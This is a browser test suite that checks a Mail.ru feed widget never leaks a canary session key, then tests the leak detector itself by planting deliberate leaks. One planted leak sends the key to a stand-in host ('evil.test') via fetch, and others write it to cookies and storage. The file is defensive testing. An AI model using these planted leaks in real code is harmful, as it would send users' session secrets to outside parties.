import { beforeEach, describe, expect, it } from 'vitest';
import { vendorExample } from '../../demo/sandbox/vendor-example.js';
import { signMailru } from '../../src/server.js';
import { drawnCards, feedSettled } from '../helpers/feed-in-page.js';
import { CLASSIC, classicTag, feedTag, hostPage } from '../helpers/host-page.js';
import { leaks, LISTEN, spellings } from '../helpers/leak-search.js';
import { passOn, type Backend } from '../helpers/page-server.js';
import { openPageStage } from '../helpers/page-stage.js';
import { visit, type Visit } from '../helpers/page-visit.js';

/** The session key that must be found nowhere; each encoding writes it in another way. */
const KEY = 'CANARY-6fd1a+/=&"5c';

const { browser, site, server } = await openPageStage();
/** The key and the signatures that went out in this test, in all spellings. */
let secrets: string[];

beforeEach(() => {
  secrets = spellings(KEY);
  site.backend = gateway;
});

const isToken = (request: Request) => new URL(request.url).pathname === '/feed-token';
const { secretKey } = vendorExample;

/** The sandbox, behind a gateway that knows its session by another key. */
const gateway: Backend = async (request) => {
  if (isToken(request)) {
    const { params } = (await request.json()) as { params: Record<string, string> };
    const sig = signMailru({ ...params, session_key: KEY }, { secretKey });
    secrets.push(sig);
    return Response.json({ sessionKey: KEY, sig });
  }
  const { sig: _sig, ...params } = Object.fromEntries(
    request.method === 'POST' ? new URLSearchParams(await request.text()) : new URL(request.url).searchParams,
  );
  if (params['session_key'] !== KEY) return new Response('Not the session key.', { status: 500 });
  const own = { ...params, session_key: vendorExample.sessionKey };
  const query = new URLSearchParams({ ...own, sig: signMailru(own, { secretKey }) });
  return passOn(server.url)(new Request(`${site.origin}/platform/api?${query}`));
};

/** An API whose every answer is made from the request: `said` is all that it was told. */
const echo =
  (answer: (said: string) => Response): Backend =>
  async (request) => {
    if (isToken(request)) return gateway(request);
    const { search, searchParams } = new URL(request.url);
    return answer(`${search} ${[...searchParams].join(' ')}`);
  };

async function open(...parts: string[]): Promise<Visit> {
  const opened = await visit(browser, site.page(hostPage(classicTag(site.script(LISTEN)), ...parts)));
  await feedSettled(opened.page);
  return opened;
}

const escapeXml = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');

describe('the session key and its signatures are found nowhere in the page', () => {
  it.each(['json', 'xml'])(
    'when all is well, in %s: only in the addresses that the API documents',
    async (format) => {
      const opened = await open(feedTag({ format }), CLASSIC);
      await opened.page.mouse.wheel(0, 10_000);
      await opened.page.waitForFunction(() => (document.querySelector('feed-list')?.events.length ?? 0) > 10);
      expect(await leaks(opened, secrets)).toEqual(['resources']);
      const names = await opened.page.evaluate(() => performance.getEntries().map(({ name }) => name));
      const telling = names.filter((name) => secrets.some((secret) => name.includes(secret)));
      expect(telling.length).toBeGreaterThanOrEqual(2);
      for (const name of telling) expect(name.startsWith(`${site.origin}/platform/api?`)).toBe(true);
      const sentAway = opened.sent.filter((text) => secrets.some((secret) => text.includes(secret)));
      for (const text of sentAway) expect(text.startsWith(`GET ${site.origin}/platform/api?`)).toBe(true);
    },
  );

  it('when the page asks by POST: not even in addresses', async () => {
    const host = site.script(`
      document.querySelector('feed-list').source = WhatsNewFeed.mailru({
        endpoint: '/platform/api', appId: '423004', method: 'POST',
        token: async (request) => (await fetch('/feed-token', {
          method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(request),
        })).json(),
      });
    `);
    const opened = await open('<feed-list></feed-list>', CLASSIC, classicTag(host));
    expect(await drawnCards(opened.page)).toEqual({ cards: 10, drawn: 10 });
    expect(await leaks(opened, secrets)).toEqual([]);
    const telling = opened.sent.filter((text) => secrets.some((secret) => text.includes(secret)));
    expect(telling).toHaveLength(1);
    expect(telling[0]?.split('\n')[0]).toBe(`POST ${site.origin}/platform/api`);
  });

  it.each([
    [
      'an error of the API',
      'json',
      echo((said) => Response.json({ error: { error_code: 104, error_msg: said } })),
    ],
    [
      'an error of the API',
      'xml',
      echo(
        (said) =>
          new Response(
            `<error><error_code>100</error_code><error_msg>${escapeXml(said)}</error_msg></error>`,
          ),
      ),
    ],
    [
      'an ended session',
      'json',
      echo((said) => Response.json({ error: { error_code: 102, error_msg: said } })),
    ],
    ['an error in a word', 'json', echo((said) => Response.json({ error: said }, { status: 400 }))],
    [
      'the page of a gateway',
      'json',
      echo((said) => new Response(`<html>${escapeXml(said)}`, { status: 500 })),
    ],
    ['no JSON', 'json', echo((said) => new Response(`${said} {`))],
    [
      'JSON that breaks off',
      'json',
      echo((said) => new Response(`[{"id":"a","title":${JSON.stringify(said)}`)),
    ],
    [
      'XML that is not well-formed',
      'xml',
      echo((said) => new Response(`<response_x><a>${escapeXml(said)}</b>`)),
    ],
    ['another shape', 'json', echo((said) => Response.json({ [said]: said }))],
    [
      'warnings',
      'json',
      echo((said) => Response.json([{ id: 'a', time: said, click_url: said, title: { said } }])),
    ],
    [
      'a connection that is cut',
      'json',
      echo(() => {
        throw new Error('cut');
      }),
    ],
    ['a token of another shape', 'json', () => Response.json({ session: KEY })],
    ['a token that is no JSON', 'json', () => new Response(`${KEY} is the key`)],
    ['a token that cannot be sent', 'json', () => Response.json({ sessionKey: `${KEY}\n`, sig: KEY })],
    ['a token server that fails', 'json', () => new Response(`No: ${KEY}`, { status: 500 })],
  ] as [string, string, Backend][])(
    'when the answer that quotes it is %s, in %s',
    async (_, format, backend) => {
      site.backend = backend;
      const opened = await open(feedTag({ format }), CLASSIC);
      const found = await leaks(opened, secrets);
      expect(found.filter((place) => place !== 'resources')).toEqual([]);
      expect(await opened.page.evaluate(() => window.heard?.length)).toBeGreaterThan(0);
      expect(opened.thrown).toEqual([]);
    },
  );

  it('when the page’s own fetch quotes addresses in its errors', async () => {
    const wrapped = site.script(`
      const real = fetch;
      window.fetch = async (url, init) => {
        if (!url.includes('/platform/api')) return real(url, init);
        throw new TypeError('fetch failed: ' + url, { cause: new Error(decodeURIComponent(url)) });
      };
    `);
    const opened = await open(classicTag(wrapped), feedTag(), CLASSIC);
    expect((await opened.seen()).errors).toMatchObject([{ kind: 'network' }]);
    expect(await leaks(opened, secrets)).toEqual([]);
    expect(opened.thrown).toEqual([]);
  });
});

describe('the search itself', () => {
  it.each([
    ['dom', `document.body.append(key)`],
    ['dom', `document.body.firstElementChild.dataset.key = btoa(key)`],
    ['dom', `document.querySelector('feed-list').shadowRoot.querySelector('[part=feed]').title = key`],
    ['properties', `document.querySelector('feed-list').held = { deep: [{ key }] }`],
    [
      'events',
      `heard.push(Object.assign(new Event('feed-error'), { error: new Error('x', { cause: new Error(key) }) }))`,
    ],
    ['events', `heard.push(Object.assign(new Event('feed-load'), { toJSON: () => key }))`],
    ['console', `console.debug('token %s', encodeURIComponent(key))`],
    ['thrown', `setTimeout(() => { throw new Error(key); })`],
    ['storage', `sessionStorage.token = key`],
    ['cookies', `document.cookie = 'token=' + encodeURIComponent(key)`],
    ['page', `history.replaceState({ key }, '')`],
    [
      'request to another origin',
      `fetch('https://evil.test/?' + new URLSearchParams({ key })).catch(() => {})`,
    ],
  ])('finds it: %s, by %s', async (place, leak) => {
    const leaky = site.script(`{ const key = ${JSON.stringify(KEY)}; ${leak}; }`);
    const opened = await open(feedTag(), CLASSIC, classicTag(leaky));
    await expect.poll(() => leaks(opened, secrets)).toContain(place);
  });
});
